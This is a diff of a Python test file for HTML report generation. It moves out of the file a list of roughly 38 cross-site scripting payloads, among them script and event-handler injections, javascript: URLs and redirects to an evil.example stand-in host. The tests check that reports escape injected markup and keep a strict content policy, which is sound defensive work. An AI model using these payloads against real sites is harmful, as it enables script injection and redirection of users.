@@ -10,103 +10,12 @@ from typing import Any
 import pytest
 
 from danlu.base.records import Finding
-from danlu.store.history import History
-from danlu.view.info.run import RunInfo
-from danlu.view.info.study import StudyInfo, read_study
 from danlu.view.page.shell import shell
 from danlu.view.report import finding_card, run_html, run_report, study_html, study_report
-from dashboard_site import RECIPE, course, make_run, make_study, served
+from dashboard_site import course, make_run, make_study, served
+from hostile import PAYLOADS, hostile_run, hostile_study, with_payload
 
-PAYLOADS = [
-    "<script>pwned=1</script>",
-    "</script><script>pwned=1</script>",
-    "<!--</script><script>pwned=1//",
-    "--><script>pwned=1</script><!--",
-    "]]><script>pwned=1</script>",
-    "<ScRiPt >pwned=1</sCrIpT >",
-    "<scr<script>ipt>pwned=1</scr</script>ipt>",
-    "<img src=x onerror=pwned=1>",
-    "<img src=x onerror='pwned=1'//",
-    '"><img src=x onerror=pwned=1>',
-    "'><img src=x onerror=pwned=1>",
-    "` onerror=pwned=1 `",
-    '" onmouseover="pwned=1" x="',
-    "' onfocus='pwned=1' autofocus='",
-    "<svg onload=pwned=1>",
-    "<svg><script>pwned=1</script></svg>",
-    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=pwned=1>",
-    "<iframe src=javascript:pwned=1></iframe>",
-    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
-    "javascript:pwned=1",
-    "<a href=javascript:pwned=1>x</a>",
-    "<body onload=pwned=1>",
-    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
-    "<base href=http://evil.example/>",
-    "<link rel=stylesheet href=http://evil.example/x.css>",
-    "<style>@import 'http://evil.example/x.css'</style>",
-    "</style><script>pwned=1</script>",
-    "</title><script>pwned=1</script>",
-    "</textarea><script>pwned=1</script>",
-    "<form action=http://evil.example><input name=x autofocus>",
-    "<object data=http://evil.example></object>",
-    "<template><script>pwned=1</script></template>",
-    "\u2028pwned=1\u2029<script>",
-    "&lt;script&gt;pwned=1&lt;/script&gt;",
-    "\x00<script>pwned=1</script>",
-    "${pwned=1} {{pwned=1}} #{pwned=1}",
-    "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
-]
 HARMLESS = "harmless"
-
-
-def with_payload(value: Any, payload: str, key: str = "") -> Any:
-    """The record with `payload` behind every string in it, but for those that danlu goes by."""
-    if isinstance(value, dict):
-        return {name: with_payload(inner, payload, str(name)) for name, inner in value.items()}
-    if isinstance(value, list):
-        return [with_payload(inner, payload, key) for inner in value]
-    return (
-        value + payload
-        if isinstance(value, str) and key not in ("kind", "part", "png", "severity", "reason")
-        else value
-    )
-
-
-def info(payload: str) -> RunInfo:
-    """A run with the payload in its name, labels, classes, findings, recipe, environment and place."""
-    return RunInfo(
-        name=f"run {payload}",
-        state="finished",
-        course=History.of([with_payload(record, payload) for record in course()]),
-        recipe=f"# {payload}\n{RECIPE}",
-        settings={"net.name": payload, payload: payload},
-        environment={payload: payload, "inner": {payload: [payload]}},
-        where=f"/runs/{payload}",
-    )
-
-
-def study(payload: str) -> StudyInfo:
-    design = {
-        "factors": {f"net.{payload}": [f"a{payload}", f"b{payload}"]},
-        "seeds": [0, 1, 2],
-        "folds": 1,
-        "metric": "accuracy",
-    }
-    members = [
-        {
-            "kind": "member",
-            "factors": {f"net.{payload}": level + payload},
-            "seed": seed,
-            "fold": 0,
-            "score": {"accuracy": (0.5 if level == "a" else 0.9) + seed / 100, payload: 0.5},
-            "diverged": False,
-        }
-        for seed in range(3)
-        for level in "ab"
-    ]
-    best = {"kind": "best", "factors": {f"net.{payload}": f"b{payload}"}, "validation": {"accuracy": 0.9, payload: 0.4}}
-    return read_study(f"study {payload}", design, [*members, best], recipe=f"# {payload}", where=payload)
 
 
 class Skeleton(HTMLParser):
@@ -132,7 +41,12 @@ class Skeleton(HTMLParser):
 def test_a_report_has_the_same_elements_whatever_stands_in_its_run(payload: str) -> None:
     """Markup in a name would be one element more."""
     pages = [
-        [run_report(info(text)), run_html(info(text)), study_report(study(text)), study_html(study(text))]
+        [
+            run_report(hostile_run(text)),
+            run_html(hostile_run(text)),
+            study_report(hostile_study(text)),
+            study_html(hostile_study(text)),
+        ]
         for text in (payload, HARMLESS)
     ]
     for told, plain in zip(*pages, strict=True):
@@ -140,7 +54,7 @@ def test_a_report_has_the_same_elements_whatever_stands_in_its_run(payload: str)
 
 
 def test_the_skeleton_sees_what_gets_through() -> None:
-    plain = run_report(info(HARMLESS))
+    plain = run_report(hostile_run(HARMLESS))
     for payload in PAYLOADS[:1] + PAYLOADS[7:8]:
         assert Skeleton(plain.replace(HARMLESS, payload, 1)).elements != Skeleton(plain).elements
 
@@ -155,7 +69,7 @@ def test_a_finding_is_text(payload: str) -> None:
 
 
 def test_a_report_allows_its_own_script_and_style_alone() -> None:
-    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', run_report(info(HARMLESS)))
+    (policy,) = re.findall(r'http-equiv="Content-Security-Policy" content="([^"]*)"', run_report(hostile_run(HARMLESS)))
     assert "default-src 'none'" in policy.replace("&#x27;", "'")
     assert "unsafe" not in policy
     assert "http" not in policy
